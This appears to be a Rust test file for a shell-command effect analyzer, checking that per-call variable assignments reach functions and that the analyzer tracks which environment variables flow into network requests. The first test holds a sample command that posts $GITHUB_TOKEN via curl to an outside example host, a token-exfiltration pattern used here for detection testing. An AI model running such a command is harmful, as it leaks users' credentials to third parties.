//! `VAR=value f`: a function called with assignments before its name
//! sees them, exported, for that call only.

use crate::common;
use common::*;
use serde_json::Value;

fn requests(command: &str) -> Vec<Value> {
    effects(command)
        .into_iter()
        .filter(|e| e["effect"] == "request")
        .collect()
}

#[test]
fn a_function_sees_the_assignments_of_its_call() {
    let sent = requests(
        "post() { curl -d \"$BODY\" https://notes.example.net/v2; }\nBODY=$GITHUB_TOKEN post",
    );
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(
        sent[0]["payload"]["env"],
        serde_json::json!(["GITHUB_TOKEN"])
    );
}

#[test]
fn a_call_s_assignments_end_with_the_call() {
    let sent = requests(
        "post() { curl -d \"$BODY\" \"$URL\"; }\nURL=https://a.example/x BODY=one post\nURL=https://b.example/y post",
    );
    let urls: Vec<&str> = sent
        .iter()
        .map(|r| r["target"]["url"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(urls[0], "https://a.example/x", "{sent:?}");
    assert_eq!(urls[1], "https://b.example/y", "{sent:?}");
    // The second call's body is whatever the environment holds, not the
    // first call's text.
    assert_eq!(sent[0]["payload"]["text"], serde_json::json!(["one"]));
    assert_eq!(
        sent[1]["payload"]["env"],
        serde_json::json!(["BODY"]),
        "{sent:?}"
    );
}
